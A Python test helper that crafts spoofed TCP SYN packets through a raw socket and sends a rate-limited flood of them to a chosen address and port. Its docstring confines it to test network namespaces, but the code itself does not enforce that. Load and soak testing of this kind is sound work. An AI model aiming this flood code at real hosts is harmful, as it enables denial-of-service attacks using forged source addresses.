#!/usr/bin/env python3
"""Spoofed TCP SYNs through a raw socket: COUNT of them from SRC to DST:PORT, at most RATE
a second, each from its own source port. The source is an address no host answers for, so
the target's SYN-ACKs never leave (its ARP requests go unanswered), as in a SYN flood.

Only for the tests' and the soak's own network namespaces: DST must be an address inside
the namespace the caller made. Bounded in count and in time (COUNT / RATE seconds).

usage: syn_flood.py SRC DST PORT COUNT RATE
"""
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    # TCP header with one option (MSS 1460): 24 bytes, data offset 6 words.
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0)
    tcp += struct.pack("!BBH", 2, 4, 1460)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sport, 0, 64, 6, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    src, dst, port, count, rate = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
    if count < 0 or count > 1_000_000 or rate <= 0:
        sys.exit("COUNT must be 0..1000000 and RATE positive")
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for n in range(count):
        raw.sendto(syn(src, dst, 20000 + n % 40000, port, (n * 7919) & 0xFFFFFFFF), (dst, 0))
        due = start + (n + 1) / rate
        pause = due - time.monotonic()
        if pause > 0:
            time.sleep(pause)
    print(f"sent {count} SYNs from {src} to {dst}:{port} in {time.monotonic() - start:.1f} s")


if __name__ == "__main__":
    main()
